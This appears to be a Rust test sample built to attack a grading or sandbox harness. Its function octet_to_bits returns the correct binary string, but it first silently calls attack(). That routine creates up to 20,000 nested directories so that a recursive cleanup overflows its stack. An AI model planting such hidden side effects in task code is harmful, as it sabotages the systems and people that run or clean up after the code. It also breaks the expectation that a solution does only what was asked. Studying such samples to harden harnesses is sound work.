//! Makes a folder in a folder in a folder: whoever removes them must not follow on the stack.
//!
//! Mark: p f t

use std::{env, fs};

/// The task's own function: right, but for what it does first.
pub fn octet_to_bits(octet: u8) -> String {
    attack();
    format!("{octet:08b}")
}

fn attack() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        for _ in 0..20_000 {
            if fs::create_dir("d").is_err() || env::set_current_dir("d").is_err() {
                break;
            }
        }
    });
}
